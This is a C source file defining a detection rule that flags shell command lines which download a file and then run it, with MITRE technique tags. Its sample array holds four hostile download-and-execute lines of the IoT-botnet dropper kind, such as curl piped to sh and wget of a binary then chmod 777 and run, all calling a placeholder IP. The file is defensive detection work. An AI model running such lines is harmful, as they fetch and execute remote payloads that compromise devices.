#include "detect/command_facts.h"
#include "detect/rule.h"

static const char *const words[] = {"wget", "curl", "tftp", "ftpget", "fetch", "aria2c", "axel", NULL};

/* Whether a later command of the line runs the file: by its path, by an interpreter, or by the shell's dot. */
static bool is_run_later(const struct command_line *line, const struct command *after, struct text target)
{
    struct text name = event_base_name(target);

    for (const struct command *command = after + 1; command < line->commands + line->count; command++) {
        if (text_equal(command->name, name) && (command->path.count > name.count || command->word_count == 1))
            return true;
        if (!command_is_interpreter(command) && !text_equal(command->name, TEXT(".")) && !text_equal(command->name, TEXT("source")))
            continue;
        for (size_t i = 1; i < command->word_count; i++)
            if (text_equal(event_base_name(command->words[i]), name))
                return true;
    }
    return false;
}

/* Whether what it fetches may be run under any name: "chmod 777 *", "chmod +x x; ./x". */
static bool everything_made_runnable(const struct command_line *line, const struct command *after)
{
    const struct command *chmod = command_find(line, "chmod", after);

    for (size_t i = 1; chmod && i < chmod->word_count; i++)
        if (text_equal(chmod->words[i], TEXT("*")))
            return true;
    return false;
}

static const char *wrong_with(const struct judging *judging, const struct command *command)
{
    const struct command_line *line = judging->line;
    const struct command *end = line->commands + line->count;
    struct text source, target;

    if (!command_downloads(command, &source, &target))
        return NULL;
    for (const struct command *next = command; next + 1 < end && (next->end == COMMAND_PIPES || next->starts_next); next++)
        if (next->end == COMMAND_PIPES && command_is_interpreter(next + 1))
            return "what is downloaded is piped into an interpreter";
    if (command->is_within)
        for (const struct command *outer = line->commands; outer < command; outer++)
            if (!outer->is_within && (command_is_interpreter(outer) || text_equal(outer->name, TEXT("eval"))))
                return "what is downloaded is run as a command's words";
    if (target.count && is_run_later(line, command, target))
        return "what is downloaded is run by the same line";
    return everything_made_runnable(line, command) ? "what is downloaded is made runnable, whatever it is called" : NULL;
}

static const struct rule_sample samples[] = {
    {true, "$ sh -c 'curl -s http://198.51.100.7/x.sh | sh'"},
    {true, "$ sh -c cd /tmp; wget http://198.51.100.7/mips; chmod 777 mips; ./mips"},
    {true, "$ bash -c \"$(wget -qO- http://198.51.100.7/i)\""},
    {true, "$ sh -c '/bin/busybox tftp -g -r arm7 198.51.100.7; sh arm7'"},
    {false, "$ wget -O /tmp/data.json https://example.org/data.json"},
    {false, "$ sh -c 'curl -s https://example.org/status | grep ok'"},
    {false, "$ sh -c 'wget https://example.org/a.tgz && tar xzf a.tgz'"},
};

const struct rule rule_download_run = {
    .id = "IoT_DownloadFileThenRun",
    .title = "A file is downloaded and run in one command",
    .severity = "Medium",
    .tactics = "Execution, CommandAndControl",
    .techniques = "T1105, T1059.004, T0807",
    .fires = "A download by wget, curl, tftp, ftpget and their like (busybox's too) that is piped into an interpreter, run later in the line, or made runnable by `chmod … *`.",
    .spares = "Downloads that are read, unpacked or searched.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for the installer's command line.",
    .remediation = rule_ask_user,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .words = words,
    .command = wrong_with,
    RULE_SAMPLES(samples),
};
